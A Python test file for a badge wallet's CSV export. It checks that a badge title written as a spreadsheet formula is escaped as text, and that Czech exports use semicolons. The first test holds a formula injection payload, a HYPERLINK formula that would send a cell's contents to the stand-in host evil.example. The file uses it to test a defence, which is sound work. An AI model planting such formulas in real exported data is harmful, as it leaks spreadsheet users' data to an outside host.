"""The batch as a spreadsheet: a stranger's text that starts like a formula stays text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.robustness.corpus import ob3_document, signers
from wallet.app.verification_table import csv_text
from wallet.app.verifying import ReceivedBytes, VerifyRequest, verify_batch, verify_options


def test_a_title_that_looks_like_a_formula_is_written_as_text() -> None:
    # GIVEN a validly signed badge whose title is a spreadsheet formula
    keys = signers()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    document = ob3_document(keys.ed_did, 1)
    document["name"] = formula
    raw = keys.data_integrity(document, "eddsa-rdfc-2022")
    outcomes = verify_batch([ReceivedBytes("-", raw), Path("-")], verify_options(VerifyRequest()))
    # WHEN the batch is written as CSV
    rows = list(csv.DictReader(io.StringIO(csv_text(outcomes, "en"), newline="")))
    # THEN the title starts with an apostrophe (text in every spreadsheet), and "-" stays "-"
    assert rows[0]["title"] == "'" + formula
    assert [row["file"] for row in rows] == ["-", "-"]
    assert rows[1]["verdict"] == "" and "does not exist" in rows[1]["reason"]


def test_a_czech_table_separates_cells_with_semicolons_as_czech_spreadsheets_expect() -> None:
    # GIVEN a verified badge whose title holds a comma
    keys = signers()
    document = ob3_document(keys.ed_did, 1)
    document["name"] = "Data, analysis; and more"
    raw = keys.data_integrity(document, "eddsa-rdfc-2022")
    outcomes = list(verify_batch([ReceivedBytes("a.json", raw)], verify_options(VerifyRequest())))
    # WHEN the batch is written for a Czech reader and for an English one
    czech = csv_text(outcomes, "cs")
    english = csv_text(outcomes, "en")
    # THEN the Czech file's header is semicolon-separated and the English one comma-separated
    assert czech.splitlines()[0].startswith("file;sha256;verdict;")
    assert english.splitlines()[0].startswith("file,sha256,verdict,")
    # AND both read back to the same title, whichever separator the title itself holds
    czech_rows = list(csv.DictReader(io.StringIO(czech, newline=""), delimiter=";"))
    english_rows = list(csv.DictReader(io.StringIO(english, newline="")))
    assert czech_rows[0]["title"] == english_rows[0]["title"] == "Data, analysis; and more"
